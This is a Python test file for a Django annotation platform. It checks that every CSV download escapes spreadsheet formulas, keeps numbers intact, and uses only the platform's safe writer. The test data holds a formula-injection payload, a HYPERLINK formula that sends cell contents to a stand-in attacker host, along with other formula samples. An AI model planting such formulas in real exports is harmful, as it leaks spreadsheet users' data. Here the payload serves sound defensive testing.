"""CSV (formula) injection: every CSV the platform writes for download escapes text a spreadsheet
would run as a formula, and leaves numbers alone."""
from __future__ import annotations

import ast
import csv
import io
import random
from decimal import Decimal

import pytest
from django.core.management import call_command

from annotation.formats.csv_safe import csv_cell, safe_csv_writer
from annotation.models import Caption, Label, PooledPair, Report, Run
from annotation.selectors.moments import infap_csv, moment_metrics_csv
from annotation.services.exports.labels import artefact_file, export_create
from annotation.services.reports.create import report_create
from annotation.services.judging.simulation import judging_report_file, judging_simulation_create
from tests.annotation.services.judging.simulation_world import tiny_world
from tests.conftest import REPO
from tests.factories import make_pool_with_runs, make_rater, make_user

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", [LINK, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "=", "-"])
def test_text_a_spreadsheet_would_run_gets_a_quote(text):
    assert csv_cell(text) == "'" + text
    assert csv_cell(text, numeric=True) == "'" + text  # not a number, so escaped even in a number column


@pytest.mark.parametrize("value", [-0.25, -3, 0.0, 1e-9, True])
def test_numbers_are_data(value):
    assert csv_cell(value) is value


@pytest.mark.parametrize("text", ["-0.250000", "-3", "+1.5", "-1e-05", "-.5"])
def test_numbers_formatted_as_text_stay_in_a_number_column_only(text):
    assert csv_cell(text, numeric=True) == text
    assert csv_cell(text) == "'" + text  # the same text in a text column (a caption) is escaped


@pytest.mark.parametrize("text", ["a dog runs", "1+1", "", " =1", "'=1", "r=0.5"])
def test_other_text_is_left_alone(text):
    assert csv_cell(text) == text


def test_writer_escapes_per_column_and_round_trips():
    out = io.StringIO()
    writer = safe_csv_writer(out, numeric_columns={2})
    writer.writeheader(["caption", "score", "formatted"])
    writer.writerow([LINK, -0.25, "-0.250000"])
    writer.writerow(["-0.25", None, "=1+1"])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["caption", "score", "formatted"], ["'" + LINK, "-0.25", "-0.250000"], ["'-0.25", "", "'=1+1"]]


@pytest.mark.parametrize("numeric", [(), (0, 1, 2, 3, 4, 5, 6, 7)])
def test_writer_rows_are_each_cell_escaped_as_the_rule_says(numeric):
    """The writer's fast path for plain text and ints (issue 40) writes what the rule writes, on
    every kind of cell, each written out by hand."""
    row = ["a dog", "=1+1", "-0.5", 7, True, None, "", "\t=2"]
    out = io.StringIO()
    safe_csv_writer(out, numeric_columns=numeric).writerow(row)
    expected = ["a dog", "'=1+1", "-0.5" if numeric else "'-0.5", "7", "True", "", "", "'\t=2"]
    assert next(csv.reader(io.StringIO(out.getvalue()))) == expected


# Dialects the pieces are checked in: the default (made without the csv module where no cell needs
# quoting) and ones where the csv module makes every piece.
DIALECTS = [{}, {"lineterminator": "\r\n"}, {"delimiter": ";"}, {"escapechar": "\\"}, {"quotechar": "'"},
            {"quoting": csv.QUOTE_ALL}, {"quoting": csv.QUOTE_NONNUMERIC}, {"delimiter": "\t"}, {"delimiter": " "}]
CELLS = [None, "", " ", "a dog", "=1+1", "-0.5", "'=1", 0, -3, 7, True, False, 1.5, -0.25, 0.1 + 0.2, 1e-05, 1e22,
         float("nan"), float("-inf"), Decimal("-1.50"), "tab\there", "cr\rlf\nboth\r\n", 'say "hi"', "a,b", "a;b",
         "back\\slash", "it's", "café 日本 😀", "\x00\x01\x7f\u2028", "\t=2", "\r=1"]


def _written_by_the_csv_module(cells, numeric=(), **options) -> str:
    """What csv.writer writes for the row, each cell through the rule (csv_cell): the oracle."""
    out = io.StringIO()
    csv.writer(out, **{"lineterminator": "\n", **options}).writerow(
        [csv_cell(v, numeric=i in numeric) for i, v in enumerate(cells)])
    return out.getvalue()


@pytest.mark.parametrize("options", DIALECTS, ids=str)
def test_rows_written_in_pieces_are_the_rows_writerow_writes(options):
    """cells_text / write_pieces (issue 40: a pair's columns are made text once for all its labels'
    rows) write, byte for byte, what csv.writer writes for the whole row: every kind of cell, in
    every split of the row into pieces, in dialects made by hand and by the csv module."""
    rng = random.Random(40)
    for n in range(600):
        cells = [rng.choice(CELLS) for _ in range(rng.randrange(1, 6))]
        numeric = (1, 3) if n % 2 else ()
        out = io.StringIO()
        writer = safe_csv_writer(out, numeric_columns=numeric, **options)
        cut = rng.randrange(1, len(cells) + 1)
        writer.write_pieces([[writer.cells_text(cells)],
                             [writer.cells_text(cells[:cut])] + ([writer.cells_text(cells[cut:], first=cut)]
                                                                 if cut < len(cells) else [])])
        writer.writerow(cells)
        assert out.getvalue() == _written_by_the_csv_module(cells, numeric, **options) * 3, (cells, options)


def test_a_piece_is_the_csv_modules_text_for_every_character():
    """Each character alone, inside text, and beside a number: a piece made without the csv module
    quotes exactly where the csv module quotes (pins the characters it treats as special)."""
    writer = safe_csv_writer(io.StringIO())
    for code in [*range(0x3000), 0xFEFF, 0x1F600, 0x10FFFF]:
        char = chr(code)
        for cells in ([char], ["a" + char + "b", 1.5], [char + "x", None, char]):
            assert writer.cells_text(cells) + "\n" == _written_by_the_csv_module(cells), (code, cells)


# --- every writer the platform has ------------------------------------------------------------

@pytest.fixture
def pool(db):
    """Two runs A and B over four captions; two captions carry formulas; three labels given."""
    pool, _ = make_pool_with_runs(captions=4, clips=6, depth=3)
    Caption.objects.filter(dataset=pool.dataset, external_id="q1").update(text=LINK)
    Caption.objects.filter(dataset=pool.dataset, external_id="q2").update(text="@SUM(1+1)")
    rater = make_rater()
    for n, pair in enumerate(PooledPair.objects.filter(pool=pool, role="pool").order_by("pk")[:3], start=1):
        Label.objects.create(pair=pair, rater=rater, value=Label.Value.RELEVANT, client_id=f"c{n}", counted=True,
                             sequence=1, seconds=2.5)
    return pool


def test_label_export_escapes_captions_and_keeps_numbers(pool):
    text = artefact_file(artefact=export_create(pool=pool, fmt="csv")).read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    by_caption = {r["caption_id"]: r["caption_text"] for r in rows}
    assert by_caption == {"q1": "'" + LINK, "q2": "'@SUM(1+1)", "q3": "caption 3", "q4": "caption 4"}
    labelled = [r for r in rows if r["label_id"]]
    assert len(labelled) == 3 and {r["seconds"] for r in labelled} == {"2.5"}
    assert all(r["pair_id"].isdigit() for r in rows)


def test_report_csv_escapes_run_names_and_keeps_negative_numbers(pool, client):
    Run.objects.filter(dataset=pool.dataset, name="A").update(name="-A")
    report = report_create(pool=pool, kind="metrics")
    for cell in report.result["kendall_tau"].values():
        cell["tau"] = -0.25
    Report.objects.filter(pk=report.pk).update(result=report.result)
    client.force_login(make_user("researcher"))
    metrics = list(csv.reader(io.StringIO(client.get(f"/api/v1/reports/{report.pk}/csv/?table=metrics").content.decode())))
    assert [row[0] for row in metrics[1:]] == ["'-A", "B"]
    tau = list(csv.reader(io.StringIO(client.get(f"/api/v1/reports/{report.pk}/csv/?table=kendall_tau").content.decode())))
    assert len(tau) > 1 and {row[1] for row in tau[1:]} == {"-0.25"}

    out = io.StringIO()
    call_command("report", "--pool", str(pool.pk), "--kind", "metrics", "--csv", "overlap", stdout=out)
    assert out.getvalue().splitlines()[1].startswith("'-A,B,")


def test_moment_and_infap_csvs_escape_names_and_keep_negative_figures():
    moment = Report(kind="moment_metrics", result={
        "columns": ["R@1 IoU=0.5"],
        "runs": [{"run_id": 7, "run": "@cmd", "corrected": {"R@1 IoU=0.5": -0.25}, "original": {"R@1 IoU=0.5": 0.5}}]})
    rows = list(csv.reader(io.StringIO(moment_metrics_csv(report=moment))))
    assert rows[1] == ["7", "'@cmd", "corrected", "-0.250000"] and rows[2][3] == "0.500000"

    infap = Report(kind="infap", result={
        "measures": ["xinfAP"], "queries": ["=q1"],
        "runs": [{"run_id": 7, "run": "r", "per_query": {"xinfAP": {"=q1": -0.125}}, "mean": {"xinfAP": -0.125}}]})
    rows = list(csv.reader(io.StringIO(infap_csv(report=infap))))
    assert rows[1] == ["7", "r", "'=q1", "-0.125000"] and rows[2] == ["7", "r", "all", "-0.125000"]


def test_judging_simulation_curves_csv_escapes_run_names(db):
    """curves.csv was written by a plain csv.writer in the analysis code (issue 22, finding 7)."""
    _, pool, runs = tiny_world()
    Run.objects.filter(pk=runs[0].pk).update(name=LINK)
    report = judging_simulation_create(pool=pool, params={"strategies": ["shallow_first"], "replays": 2, "seed": 1,
                                                          "checkpoints": [0.5, 1.0], "measure": "C@10"})
    _, content = judging_report_file(report=report, name="curves.csv")
    rows = list(csv.DictReader(io.StringIO(content.decode())))
    assert {r["run"] for r in rows} == {"'" + LINK, "Y"}
    assert all(not r["kendall_tau"].startswith("'") for r in rows)  # numbers (tau can be negative) stay numbers


# --- no other writer ---------------------------------------------------------------------------

CSV_WRITER_NAMES = {"writer", "DictWriter"}


def test_safe_csv_writer_is_the_only_csv_writer():
    """Every CSV the platform writes goes through annotation/formats/csv_safe.py: no other module
    calls csv.writer or csv.DictWriter, so a new output cannot forget the escaping."""
    offenders = []
    for folder in ("annotation", "api", "frontend", "config"):
        for path in sorted((REPO / folder).rglob("*.py")):
            if path == REPO / "annotation" / "formats" / "csv_safe.py" or "migrations" in path.parts:
                continue
            tree = ast.parse(path.read_text(), filename=str(path))
            from_csv = {alias.asname or alias.name for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)
                        and node.module == "csv" for alias in node.names if alias.name in CSV_WRITER_NAMES}
            for node in ast.walk(tree):
                if not isinstance(node, ast.Call):
                    continue
                f = node.func
                if (isinstance(f, ast.Attribute) and f.attr in CSV_WRITER_NAMES and isinstance(f.value, ast.Name)
                        and f.value.id == "csv") or (isinstance(f, ast.Name) and f.id in from_csv):
                    offenders.append(f"{path.relative_to(REPO)}:{node.lineno}")
    assert offenders == []
